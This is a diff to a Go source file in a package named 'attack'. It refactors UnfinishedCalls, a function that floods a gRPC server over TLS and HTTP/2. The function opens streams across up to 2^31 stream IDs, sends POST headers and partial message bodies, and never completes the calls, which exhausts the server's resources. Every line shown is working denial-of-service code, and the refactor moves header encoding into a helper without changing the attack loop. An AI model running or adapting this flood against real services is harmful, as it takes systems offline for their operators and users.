@@ -1,7 +1,6 @@
 package attack
 
 import (
-	"bytes"
 	"context"
 	"crypto/tls"
 	"encoding/binary"
@@ -11,7 +10,6 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 )
 
 // CallFlood is what UnfinishedCalls did.
@@ -57,17 +55,11 @@ func UnfinishedCalls(ctx context.Context, addr string, cfg *tls.Config, method s
 			if fr.WriteSettings() != nil {
 				return
 			}
-			var hb bytes.Buffer
-			enc := hpack.NewEncoder(&hb)
+			hw := newCallHeaders(fr, method, addr)
 			body := make([]byte, 5+sent)
 			binary.BigEndian.PutUint32(body[1:5], uint32(msgBytes))
 			for id := uint32(1); ctx.Err() == nil && id < 1<<31; id += 2 {
-				hb.Reset()
-				for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", addr},
-					{"content-type", "application/grpc"}, {"te", "trailers"}} {
-					_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
-				}
-				if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true}) != nil {
+				if hw.write(id) != nil {
 					return
 				}
 				if fr.WriteData(id, false, body) != nil {
